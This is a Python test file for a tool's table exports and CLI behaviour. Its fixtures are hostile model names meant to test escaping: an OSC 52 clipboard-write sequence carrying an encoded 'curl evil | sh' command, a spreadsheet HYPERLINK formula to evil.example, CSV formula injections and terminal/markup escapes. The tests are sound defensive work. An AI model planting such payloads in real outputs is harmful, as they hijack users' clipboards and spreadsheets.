"""Every export format, compared whole with a golden file, on a fixed store full of hostile names.

The store (``build_export_store``) holds a baseline with two experiments that share it (its vanilla
row is written once), a third experiment on another model, an efficiency table, and a published
table imported with names a reader's tool could take for code: Markdown pipes and links, LaTeX
specials, spreadsheet formulas, RFC 4180 doubled quotes, an OSC 52 clipboard write and ANSI colour.
``greentui export --format md|csv|json|latex`` and the TUI palette's exports must write exactly the
golden files in tests/golden/. Regenerate them after an intended change with
``scripts/update-snapshots`` (or GREENTUI_UPDATE_SNAPSHOTS=1 on this file) and read the diff.

The escape functions of ``backend.results.tables`` are checked on their own too: what each format's
reader makes of an escaped cell is the original text.
"""

from __future__ import annotations

import csv
import difflib
import io
import json
import os
import re
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest

from backend.results.ratios import attach
from backend.results.report_energy import efficiency_table
from backend.results.tables import csv_cell, csv_text, escape_latex, escape_markdown
from backend.store import Store
from backend.workspace import db_path

from .conftest import pause_until
from .snapshot import UPDATE

ROOT = Path(__file__).resolve().parent.parent
GOLDEN = ROOT / "tests" / "golden"
T0 = 1_767_225_600.0  # 2026-01-01 00:00 UTC
TASKS = ("arc_challenge", "boolq", "piqa")
OSC52 = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
#: a model name that is a Markdown link and table cell breaker, LaTeX code and Rich markup at once
HOSTILE = "Evil|Model_&%$#{}~^\\ <b>*x*</b> [@click=app.quit]q[/] " + OSC52 + "\x1b[31mred"
FORMULA = '=HYPERLINK("http://evil.example","x")'
PAPER = (
    "model,variant,ARCC,BoolQ,PIQA,Avg,Ratio\n"
    '"Foo ""quoted"" 7B",vanilla,50.0,80.0,70.0,66.7,\n'
    '"Foo ""quoted"" 7B",pruned,40.0,70.0,60.0,56.7,0.850\n'
    "@SUM(1+1),vanilla,45.0,75.0,65.0,61.7,\n"
    "@SUM(1+1),pruned,35.0,65.0,55.0,51.7,0.838\n"
    "-2+3 | x,vanilla,30.0,60.0,50.0,46.7,\n"
)


def _results(variant: str, acc: float, wh: float) -> list[dict]:
    return [{"variant": variant, "task": t, "acc": acc + 0.01 * i, "acc_stderr": 0.02, "acc_norm": acc,
             "energy_kwh": wh * (i + 1) / 1000, "meter": "codecarbon:cpu_load-estimate", "n_samples": 50,
             "seconds": 3.0 + i, "tokens": 1000 * (i + 1)} for i, t in enumerate(TASKS)]


def build_export_store(ws: Path, tmp: Path) -> dict[str, int]:
    """The fixed store of the golden exports (timestamps fixed, so every file is the same each day)."""
    from backend.results.reference_tables import import_table

    s = Store(db_path(ws))
    evil = s.models.upsert("org/evil", name=HOSTILE, arch="llama")
    formula = s.models.upsert("org/formula", name=FORMULA, arch="llama")
    # a few settings, not RunConfig's every default: a new setting must not change these files
    cfg = {"model": "org/evil", "limit": 50, "tasks": list(TASKS), "importance": "taylor", "prune_ratio": 2 / 7}
    base = s.runs.create(evil, "baseline", dict(cfg, no_prune=True), status="done")
    s.results.save_task_results(base, _results("vanilla", 0.5, 2.0))
    exp = s.runs.create(evil, "experiment", dict(cfg, prune_ratio=2 / 7), status="done", parent_run_id=base)
    s.results.save_task_results(exp, _results("pruned", 0.4, 1.5))
    exp2 = s.runs.create(evil, "experiment", dict(cfg, importance="l2", prune_ratio=0.5), status="done",
                         parent_run_id=base)
    s.results.save_task_results(exp2, _results("pruned", 0.3, 1.0))
    s.results.save_efficiency(exp2, "vanilla", [{"batch_size": 1, "seq_len": 128, "tokens_per_s": 900.0,
                                                 "j_per_token": 0.02, "meter": "rapl", "detail": {"params": 100}}])
    s.results.save_efficiency(exp2, "pruned", [{"batch_size": 1, "seq_len": 128, "tokens_per_s": 1200.0,
                                                "j_per_token": 0.015, "meter": "rapl", "detail": {"params": 60}}])
    base3 = s.runs.create(formula, "baseline", dict(cfg, model="org/formula", no_prune=True), status="done")
    s.results.save_task_results(base3, _results("vanilla", 0.6, 3.0))
    exp3 = s.runs.create(formula, "experiment", dict(cfg, model="org/formula", prune_ratio=0.25), status="done",
                         parent_run_id=base3)
    s.results.save_task_results(exp3, _results("pruned", 0.55, 2.0))
    paper = tmp / "paper.csv"
    paper.write_text(PAPER)
    import_table(s, paper, "acc", "Paper ~ Table 1 & more")
    c = s.conn
    c.execute("UPDATE models SET added_at = ?", (T0,))
    c.execute("UPDATE runs SET created_at = ? + id * 60, started_at = ? + id * 60 + 5, "
              "finished_at = ? + id * 60 + 55", (T0, T0, T0))
    c.execute("UPDATE task_results SET created_at = ?", (T0,))
    s.close()
    return {"base": base, "exp": exp, "exp2": exp2, "base3": base3, "exp3": exp3}


FORMATS = {"md": "md", "csv": "csv", "json": "json", "latex": "tex"}


def _normalise(text: str, tmp: Path) -> str:
    """The one thing that differs between machines: where the imported table was."""
    return text.replace(str(tmp.resolve()), "<tmp>")


def _compare(name: str, text: str) -> None:
    golden = GOLDEN / name
    if UPDATE:
        GOLDEN.mkdir(exist_ok=True)
        golden.write_bytes(text.encode())
        return
    expected = golden.read_bytes().decode()
    if text != expected:
        diff = list(difflib.unified_diff(expected.splitlines(), text.splitlines(), f"{name} (golden)",
                                         f"{name} (now)", lineterm="", n=1))
        diff = "\n".join(line[:300] for line in diff[:40])
        pytest.fail(f"{name} differs from its golden file (scripts/update-snapshots regenerates it):\n{diff}")


@pytest.fixture
def export_ws(workspace, tmp_path, monkeypatch):
    monkeypatch.setenv("TZ", "UTC")
    build_export_store(workspace, tmp_path)
    return workspace


@pytest.mark.parametrize("fmt", FORMATS)
def test_export_matches_golden_file(export_ws, tmp_path, cli, fmt):
    """The CLI's export of the hostile store, whole, against tests/golden/export.EXT."""
    out = cli("export", "--format", fmt, check=True).stdout
    _compare(f"export.{FORMATS[fmt]}", _normalise(out[:-1] if out.endswith("\n") else out, tmp_path))


def test_exports_escape_for_their_readers(export_ws, tmp_path, cli):
    """What each format's reader sees: every Markdown row has its columns, no raw control character
    anywhere, CSV cells read back as the names (with OWASP's quote on formulas), JSON names exact."""
    for fmt in FORMATS:
        out = cli("export", "--format", fmt, check=True).stdout
        assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", out), fmt
    md = cli("export", "--format", "md", check=True).stdout
    for block in md.split("### ")[1:]:
        rows = [ln for ln in block.splitlines() if ln.startswith("|")]
        widths = {len(re.findall(r"(?<!\\)\|", ln)) for ln in rows}
        assert len(widths) == 1, block   # an unescaped | would add a column to its row
    lines = list(csv.DictReader(io.StringIO(cli("export", "--format", "csv", check=True).stdout)))
    models = {ln["model"] for ln in lines}
    assert "'" + FORMULA in models and "'@SUM(1+1)" in models and "'-2+3 | x" in models
    assert 'Foo "quoted" 7B' in models
    assert any("\\x1b]52" in m for m in models)
    assert all(ln["acc"] == "" or float(ln["acc"]) >= 0 for ln in lines)
    doc = json.loads(cli("export", "--format", "json", check=True).stdout)
    assert HOSTILE in {r["model"] for r in doc["accuracy"]}
    # the vanilla row of a baseline shared by two experiments is written once
    acc = [(r["run_id"], r["variant"]) for r in doc["accuracy"]]
    assert len(acc) == len(set(acc))


def test_the_palette_writes_the_cli_s_files(export_ws, tmp_path, cli):
    """The TUI palette's exports are the same bytes as ``greentui export`` (one writer)."""
    from backend.results.report import render
    with Store(db_path(export_ws)) as s:
        for fmt in FORMATS:
            assert render(s, fmt) + "\n" == cli("export", "--format", fmt, check=True).stdout


@pytest.mark.parametrize("text", ["a|b", "x\\|y", "[a](javascript:x)", "<img src=x>", "*b* _i_", "a&amp;",
                                  "~~s~~", "`c|d`", "line\nbreak", "\x1b]52;c;eA==\x07"])
def test_markdown_escape_keeps_the_row_and_the_text(text):
    """A GFM table row of escaped text splits into exactly its cells, and unescaping gives the text
    back (control characters as their visible escapes)."""
    from backend.text import safe_text
    cell = escape_markdown(text)
    row = f"| {cell} | 2 |"
    assert "\n" not in row
    cells = re.split(r"(?<!\\)\|", row)[1:-1]
    assert len(cells) == 2
    assert re.sub(r"\\(.)", r"\1", cells[0].strip()) == safe_text(text)


def test_latex_escape_every_special():
    assert escape_latex("& % $ # _ { } ~ ^ \\") == (r"\& \% \$ \# \_ \{ \} \textasciitilde{} "
                                                    r"\textasciicircum{} \textbackslash{}")
    assert escape_latex("0.5 ± 0.1 — 2×") == r"0.5 $\pm$ 0.1 --- 2$\times$"
    assert escape_latex("a\nb\x1b") == r"a\textbackslash{}nb\textbackslash{}x1b"
    assert escape_latex("[1cm]*") == "{[}1cm{]}{*}"   # a row starting so is not \\[1cm] nor \\*


@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("+cmd", "'+cmd"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\\tx"),
    ("\r=1", "'\\r=1"), ("-0.5", "-0.5"), ("+3", "+3"), ("1e-3", "1e-3"), (-0.25, -0.25), (None, None),
    ('Foo "q" 7B', 'Foo "q" 7B'), ("a\nb", "a\nb"), ("x\x1by", "x\\x1by")])
def test_csv_cell_neutralises_formulas_keeps_numbers(value, written):
    assert csv_cell(value) == written


def test_the_efficiency_table_leaves_out_a_batch_size_neither_variant_measured():
    """A run folder's efficiency line may name any variant (the store keeps it as written); Table 3 has
    vanilla and pruned columns only, so a batch size only another variant measured gets no line (it
    ended the energy report with a TypeError: found by mypy)."""
    point = {"seq_len": 128, "tokens_per_s": 900.0, "j_per_token": 0.5, "meter": "codecarbon", "detail": {}}
    points = [dict(point, variant="vanilla", batch_size=1), dict(point, variant="pruned", batch_size=1,
                                                                 j_per_token=0.4),
              dict(point, variant="merged", batch_size=4)]
    lines = efficiency_table(points, {"id": 1})
    assert [line["batch_size"] for line in lines] == [1]
    assert lines[0]["energy_ratio"] == pytest.approx(0.8)


def test_csv_quotes_as_rfc4180():
    text = csv_text(["a", "b"], [{"a": 'Foo "quoted" 7B', "b": "x,y"}, {"a": -1.5, "b": "l1\nl2"}])
    assert text == 'a,b\r\n"Foo ""quoted"" 7B","x,y"\r\n-1.5,"l1\nl2"\r\n'
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["a", "b"], ['Foo "quoted" 7B', "x,y"],
                                                                ["-1.5", "l1\nl2"]]


async def test_palette_exports_every_format_and_screenshots_into_the_workspace(export_ws, tmp_path, monkeypatch):
    """Ctrl+P offers Markdown, LaTeX, CSV and JSON, each writes the golden file's bytes into the
    workspace; Screenshot saves an SVG there (not into a ~/Downloads a headless box lacks) and says where."""
    from greentui.app import GreentuiApp

    monkeypatch.setenv("HOME", str(tmp_path / "no-such-home"))
    app = GreentuiApp(export_ws, manage_runner=False)
    async with app.run_test(size=(120, 40)) as pilot:
        await pilot.pause()
        commands = {c.title: c for c in app.get_system_commands(app.screen)}
        for fmt, ext in FORMATS.items():
            name = {"md": "Markdown", "latex": "LaTeX", "csv": "CSV", "json": "JSON"}[fmt]
            commands[f"Export tables ({name})"].callback()
            written = (export_ws / f"greentui-tables.{ext}").read_bytes().decode()
            _compare(f"export.{ext}", _normalise(written[:-1], tmp_path))
        commands["Screenshot"].callback()
        await pause_until(pilot, lambda: list(export_ws.glob("*.svg")), what="the screenshot")
        svg = next(export_ws.glob("*.svg"))
        assert svg.read_text().startswith("<svg")
        await pause_until(pilot, lambda: any(str(svg) in str(n.message) for n in app._notifications),
                          what="the notification naming the file")


# ------------------------------------------------------------------------------ export --out (#22 2.9)

def _intact(ws: Path) -> None:
    with Store(db_path(ws)) as s:
        assert s.runs.count() == 8 and s.integrity_check() == "ok"


@pytest.mark.parametrize("where", ["greentui.db", "greentui.db-wal", "greentui.db-shm", "link-to-store",
                                   "hardlink-to-store", "run-00002/tables.csv", "other.sqlite"])
def test_export_never_writes_over_a_store_or_into_a_run_folder(export_ws, cli, where):
    """The store, its WAL and shared memory (by name, through a symlink or a hard link), any SQLite
    database and any file in a run folder are refused in one line, --force or not; the store is intact."""
    (export_ws / "run-00002").mkdir()
    (export_ws / "link-to-store").symlink_to(export_ws / "greentui.db")
    os.link(export_ws / "greentui.db", export_ws / "hardlink-to-store")
    with Store(db_path(export_ws)) as s:     # an open store, as in use: its -wal and -shm exist
        sqlite3.connect(export_ws / "other.sqlite").execute("CREATE TABLE t (x)").connection.close()
        for force in ([], ["--force"]):
            proc = cli("export", "--format", "csv", "--out", str(export_ws / where), *force)
            assert proc.returncode == 2, where
            assert len(proc.stderr.strip().splitlines()) == 1 and where.split("/")[0] in proc.stderr
        assert not (export_ws / "run-00002" / "tables.csv").exists()
        assert s.runs.count() == 8
    _intact(export_ws)


def test_export_out_onto_an_existing_file_asks_for_force(export_ws, tmp_path, cli):
    out = tmp_path / "tables.md"
    out.write_text("my notes\n")
    proc = cli("export", "--out", str(out))
    assert proc.returncode == 2 and "--force" in proc.stderr and out.read_text() == "my notes\n"
    assert cli("export", "--out", str(out), "--force").returncode == 0
    assert out.read_text() == cli("export", check=True).stdout
    _intact(export_ws)


# --------------------------------------------------------------------- ls at 80 columns (#22 3.6)

def in_a_terminal(args: list[str], workspace: Path, columns: int, rows: int = 24) -> str:
    """``greentui ARGS`` in a real pseudo-terminal of ``columns`` × ``rows`` (what a user's terminal
    is to rich: it measures the window), its output with the colours taken out."""
    import fcntl
    import pty
    import struct
    import termios

    main_fd, child_fd = pty.openpty()
    fcntl.ioctl(child_fd, termios.TIOCSWINSZ, struct.pack("HHHH", rows, columns, 0, 0))
    env = {k: v for k, v in os.environ.items() if k not in ("COLUMNS", "LINES")}
    proc = subprocess.Popen([sys.executable, "-m", "backend", "--runs-dir", str(workspace), *args], cwd=str(ROOT),
                            stdin=child_fd, stdout=child_fd, stderr=child_fd, env=dict(env, TERM="xterm"))
    os.close(child_fd)
    chunks = []
    while True:
        try:
            data = os.read(main_fd, 65536)
        except OSError:           # EIO: the child closed the terminal
            break
        if not data:
            break
        chunks.append(data)
    proc.wait(timeout=60)
    os.close(main_fd)
    text = b"".join(chunks).decode().replace("\r\n", "\n")
    return re.sub(r"\x1b\[[0-9;?]*[A-Za-z]", "", text)


def test_ls_in_80_columns_never_cuts_a_number_and_marks_partial_averages(workspace):
    """At 80 columns the table drops and merges columns; every average and ratio is printed whole;
    a running run's average over part of its tasks carries "*" and the note says what it means."""
    long_name = "organisation-with-a-long-name/Meta-Llama-3.1-8B-Instruct-pruned-" + "x" * 40
    with Store(db_path(workspace)) as s:
        mid = s.models.upsert(long_name, name=long_name)
        cfg = {"model": long_name, "tasks": list(TASKS), "importance": "taylor", "prune_ratio": 2 / 7}
        base = s.runs.create(mid, "baseline", dict(cfg, no_prune=True), status="done")
        s.results.save_task_results(base, _results("vanilla", 0.2345, 0.0012345))
        done = s.runs.create(mid, "experiment", cfg, status="done", parent_run_id=base)
        s.results.save_task_results(done, _results("pruned", 0.2111, 0.0009876))
        running = s.runs.create(mid, "experiment", cfg, status="running", parent_run_id=base, pid=os.getpid())
        s.results.save_task_results(running, _results("pruned", 0.2222, 0.0011)[:1])
        rows = {r["id"]: r for r in attach(s, s.runs.list())}
    out = in_a_terminal(["ls"], workspace, columns=80)
    lines = out.splitlines()
    assert all(len(ln) <= 80 for ln in lines), out
    for rid in (base, done, running):
        r = rows[rid]
        line = next(ln for ln in lines if re.match(rf"│\s+{rid} │", ln))
        for value, digits in ((r["avg_acc"], 3), (r["avg_wh"], 4)):
            if value is not None:
                assert f"{value:.{digits}f}" in line, (rid, value, line)
        for ratio in (r["acc_ratio_ci"], r["wh_ratio_ci"]):  # with its interval, or why it has none
            if ratio is not None:
                assert ratio.cell() in line or ratio.compact() in line, (rid, ratio, line)
        assert ("*" in line) == (rid == running)
    assert "* average over part of the tasks" in out
    assert "…" not in "".join(ln.split("│")[3] for ln in lines if ln.startswith("│"))  # numbers whole


# ---------------------------------------------------------------- a reader that goes away (#22 3.10)

@pytest.mark.parametrize("args", [["export", "--format", "csv"], ["export", "--format", "json"], ["ls"]])
def test_a_closed_pipe_ends_quietly(workspace, args):
    """``greentui export … | head``: the reader is gone before greentui writes (closed at once here:
    a reader that closes after its first line races with one large write, and the kernel may let
    that write through); greentui ends with SIGPIPE's status and not a word on stderr (it printed a
    BrokenPipeError traceback)."""
    with Store(db_path(workspace)) as s:
        mid = s.models.upsert("org/m", name="org/m")
        s.insert_rows("runs", [{"model_id": mid, "kind": "import", "config": "{}", "status": "done",
                                "created_at": T0} for _ in range(200)])
        s.insert_rows("task_results", [{"run_id": i, "variant": "vanilla", "task": t, "acc": 0.5,
                                        "energy_kwh": 0.001, "created_at": T0}
                                       for i in range(1, 201) for t in TASKS])
    proc = subprocess.Popen([sys.executable, "-m", "backend", *args], cwd=str(ROOT), stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE)
    proc.stdout.close()                       # what `head` does once it has its lines
    err = proc.stderr.read().decode()
    assert proc.wait(timeout=120) == 141 and err == ""


def test_an_export_file_gets_the_usual_permissions(export_ws, tmp_path, cli):
    """Written through a temporary file and a rename, yet readable like any file the umask allows
    (a temporary file is private, 0600) — and a replaced file keeps its own mode."""
    out = tmp_path / "t.md"
    old = os.umask(0o022)
    try:
        cli("export", "--out", str(out), check=True)
        assert out.stat().st_mode & 0o777 == 0o644
        out.chmod(0o640)
        cli("export", "--out", str(out), "--force", check=True)
        assert out.stat().st_mode & 0o777 == 0o640
    finally:
        os.umask(old)
    assert not list(tmp_path.glob(".t.md.*"))
